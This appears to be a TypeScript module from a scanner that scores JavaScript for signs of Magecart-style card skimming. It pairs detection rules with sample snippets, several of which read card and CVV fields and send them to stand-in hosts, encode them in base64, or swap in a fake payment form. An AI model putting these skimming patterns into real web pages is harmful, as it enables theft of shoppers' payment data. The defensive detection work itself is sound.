import type { AnyNode } from 'acorn';
import type { Facts } from '../facts/facts.ts';
import { isCardName, isPaymentName, mentionsCardField } from '../flow/field-words.ts';
import { anyField, taint } from '../flow/taint.ts';
import { elementFinders } from '../tree/paths.ts';
import type { Feature, Finder } from './feature.ts';
import {
  allOf,
  anyOf,
  flow,
  paths,
  sends,
  sendsAndForgets,
  sendsElsewhere,
  text,
} from './finders.ts';

const checkoutWords = [
  'checkout',
  'onepage',
  'onestep',
  'payment',
  'billing',
  'basket',
  'firecheckout',
];
const matchers: ReadonlySet<string> = new Set([
  ...['indexOf', 'includes', 'match', 'test', 'search', 'startsWith', 'endsWith', 'exec'],
]);
const addressPath = /^(?:document\.)?(?:location(?:\.(?:href|pathname|hash|search))?|URL)$/;
/** A comparison of the address is short. */
const MOST_NODES = 40;

/** `location.href.indexOf('checkout')` and the like. */
function checkoutChecks({ reading, methods }: Facts): number[] {
  const { tree, values } = reading;
  const isCheck = (number: number): boolean => {
    const last = tree.lasts[number] ?? number;
    if (last - number > MOST_NODES) return false;
    const nodes = tree.nodes.slice(number, last + 1);
    return (
      nodes.some((node) => isName(node) && addressPath.test(withoutMethods(values.path(node)))) &&
      nodes.some((node) => checkoutWords.some((word) => wordsOf(node).includes(word)))
    );
  };
  return [...matchers].flatMap((method) => methods.get(method) ?? []).filter(isCheck);
}

const isName = (node: AnyNode): boolean =>
  node.type === 'MemberExpression' || node.type === 'Identifier';
const withoutMethods = (path: string): string =>
  path.replace(/\.(?:toString|toLowerCase|indexOf|includes|match|search)$/, '');

function wordsOf(node: AnyNode): string {
  if (node.type !== 'Literal') return '';
  return (typeof node.value === 'string' ? node.value : (node.regex?.pattern ?? '')).toLowerCase();
}

const cardNumberPatterns = [
  '4[0-9]{12}',
  '4\\d{12}',
  '5[1-5][0-9]{14}',
  '5[1-5]\\d{14}',
  '3[47][0-9]{13}',
];

const imitated: readonly { readonly name: string; readonly real: readonly string[] }[] = [
  { name: 'google-analytics', real: ['google-analytics.com'] },
  { name: 'googletagmanager', real: ['googletagmanager.com'] },
  { name: 'googleadservices', real: ['googleadservices.com'] },
  { name: 'doubleclick', real: ['doubleclick.net'] },
  { name: 'hotjar', real: ['hotjar.com', 'hotjar.io'] },
];

/** Hosts that carry the name of a service which is somewhere else. */
function imitatesService(address: string): boolean {
  const host = /^(?:https?:|wss?:)?\/\/([\w.-]+)/i.exec(address)?.[1]?.toLowerCase() ?? '';
  return imitated.some(
    ({ name, real }) =>
      host.includes(name) && !real.some((it) => host === it || host.endsWith(`.${it}`)),
  );
}

/** Elements that are looked for by a name of payment. */
const paymentSelectors: Finder = ({ methods, reading: { tree, values } }) =>
  [...elementFinders].flatMap((name) =>
    (methods.get(name) ?? []).filter((number) => {
      const call = tree.node(number);
      return call?.type === 'CallExpression' && isPaymentName(values.text(call.arguments[0]) ?? '');
    }),
  );

const listedReaders = ['querySelector', 'querySelectorAll', 'getElementById', 'getElementsByName'];
const listedSenders = ['sendBeacon', 'fetch', 'XMLHttpRequest', 'WebSocket', 'Image', 'src'];

function listedSkimmer({ texts }: Facts): number[] {
  const listed = texts.filter(({ isListed }) => isListed);
  const all = new Set(listed.map(({ text: it }) => it));
  const card = listed.filter(({ text: it }) => it.length > 2 && isCardName(it));
  const has = (names: readonly string[]): boolean => names.some((name) => all.has(name));
  if (new Set(card.map(({ text: it }) => it)).size < 2 || !all.has('value')) return [];
  return has(listedReaders) && has(listedSenders) ? card.map(({ node }) => node) : [];
}

export const magecartFeatures: readonly Feature[] = [
  {
    id: 'card-data-sent',
    what: 'Card data goes to the network',
    points: 65,
    find: sends(taint.cardName, anyField),
    samples: {
      matching: [`fetch('/pay', { body: document.querySelector('[name=cardnumber]').value });`],
      other: [`fetch('/pay', { body: document.querySelector('[name=quantity]').value });`],
    },
  },
  {
    id: 'card-data-sent-unanswered',
    what: 'Card data is sent and nobody waits for an answer, as a payment would',
    points: 50,
    find: sendsAndForgets(taint.cardName, anyField),
    samples: {
      matching: [
        `navigator.sendBeacon('https://c.test/', document.getElementById('cvv').value);`,
        `fetch('https://c.test/', { mode: 'no-cors', body: document.getElementById('cvv').value });`,
      ],
      other: [
        `fetch('/token', { body: document.getElementById('cvv').value }).then((r) => r.json()).then(pay);`,
      ],
    },
  },
  {
    id: 'card-data-encoded',
    what: 'Data of fields is turned into base64 before it is sent',
    points: 25,
    find: sends(taint.encoded, anyField),
    samples: {
      matching: [`new Image().src = '//c.test/?' + btoa(document.getElementById('a').value);`],
      other: [`fetch('/x', { headers: { authorization: 'Basic ' + btoa('a:b') } });`],
    },
  },
  {
    id: 'all-fields-sent-unanswered',
    what: 'Sends all fields of the page or a form, and nobody waits for an answer',
    points: 40,
    find: sendsAndForgets(taint.allFields),
    samples: {
      matching: [
        `const d = {}; document.querySelectorAll('input,select').forEach((i) => { d[i.name] = i.value; }); navigator.sendBeacon('//c.test', JSON.stringify(d));`,
      ],
      other: [
        `fetch('/save', { method: 'POST', body: new FormData(document.querySelector('form')) }).then(done);`,
      ],
    },
  },
  {
    id: 'all-fields-sent-elsewhere',
    what: 'Sends all fields of the page or a form to another host without waiting for an answer',
    points: 65,
    find: sendsElsewhere(taint.allFields),
    samples: {
      matching: [
        `f.onsubmit = function () { navigator.sendBeacon('https://x.test/c', new FormData(document.forms[0])); };`,
      ],
      other: [
        `f.onsubmit = function () { navigator.sendBeacon('/own', new FormData(document.forms[0])); };`,
      ],
    },
  },
  {
    id: 'payment-form-copied',
    what: 'Picks the payment form of a page and sends fields without waiting for an answer',
    points: 30,
    find: allOf(sendsAndForgets(taint.allFields), paymentSelectors),
    samples: {
      matching: [
        `$('#co-payment-form').on('submit', function () { $('<img>').attr('src', '//x.test/?' + $(this).serialize()); });`,
      ],
      other: [
        `$('#co-payment-form').on('submit', function () { validate($(this).serialize()); });`,
      ],
    },
  },
  {
    id: 'hidden-card-names',
    what: 'Hides the names of card fields in encoded text',
    points: 60,
    find: text(
      ({ isDecoded, isListed, text: it }) =>
        isDecoded && !isListed && it.length > 2 && isCardName(it),
    ),
    samples: {
      matching: [`document.querySelector(atob('I2NhcmRudW1iZXI='));`],
      other: [`document.querySelector('#cardnumber');`],
    },
  },
  {
    id: 'listed-skimmer',
    what: 'Its encoded array of texts names card fields, what reads them and what sends them',
    points: 75,
    find: listedSkimmer,
    samples: {
      matching: [
        `var _0x1 = [${['cardnumber', 'card-cvv', 'value', 'querySelector', 'sendBeacon', 'stringify'].map((it) => `'${btoa(it)}'`).join()}];`,
      ],
      other: [
        `var _0x1 = [${['cardnumber', 'card-cvv', 'value', 'querySelector', 'toggleClass', 'stringify'].map((it) => `'${btoa(it)}'`).join()}];`,
        `var _0x1 = ['cardnumber', 'card-cvv', 'value', 'querySelector', 'sendBeacon'];`,
      ],
    },
  },
  {
    id: 'checkout-only',
    what: 'Acts on checkout pages only',
    points: 25,
    find: checkoutChecks,
    samples: {
      matching: [
        `if (location.href.indexOf('checkout') > -1) go();`,
        `if (/onepage|checkout/.test(window.location.pathname)) go();`,
      ],
      other: [`if (location.href.indexOf('#top') > -1) go(); show('checkout');`],
    },
  },
  {
    id: 'card-form-made',
    what: 'Puts a form with card fields into the page',
    points: 35,
    find: text(({ text: it }) => /<(?:input|form|iframe)/i.test(it) && mentionsCardField(it)),
    samples: {
      matching: [`el.innerHTML = '<form><input name="cc-number"><input name="cvv"></form>';`],
      other: [`el.innerHTML = '<form><input name="street"></form>';`],
    },
  },
  {
    id: 'card-numbers-recognised',
    what: 'Recognises card numbers in what it sends',
    points: 20,
    find: allOf(
      text(({ text: it }) => cardNumberPatterns.some((pattern) => it.includes(pattern))),
      sends(anyField),
    ),
    samples: {
      matching: [
        `const v = document.getElementById('a').value; if (/^4[0-9]{12}/.test(v)) fetch('//c.test/' + v);`,
      ],
      other: [`const isVisa = (v) => /^4[0-9]{12}/.test(v);`],
    },
  },
  {
    id: 'imitated-service',
    what: 'Uses a host that carries the name of a well-known service',
    points: 30,
    find: text(({ text: it }) => imitatesService(it)),
    samples: {
      matching: [`load('https://google-analytics.stat.test/ga.js');`],
      other: [`load('https://www.google-analytics.com/ga.js');`],
    },
  },
  {
    id: 'payment-form-replaced',
    what: 'Hides the payment form of the page and puts its own in its place',
    points: 40,
    find: allOf(
      text(({ text: it }) => /<(?:input|form|iframe)/i.test(it) && mentionsCardField(it)),
      text(({ text: it }) => it === 'none' || /display:\s*none/.test(it)),
      anyOf(
        paths('?.style.display', '<node>.style.display'),
        flow(({ sink }) => sink === 'markup'),
      ),
      sends(anyField),
    ),
    samples: {
      matching: [
        `document.querySelector('#pay').style.display = 'none'; box.innerHTML = '<form><input name="cvv"></form>'; fetch('/x', { body: document.querySelector('[name=cvv]').value });`,
      ],
      other: [`box.innerHTML = '<form><input name="cvv"></form>'; menu.style.display = 'none';`],
    },
  },
];
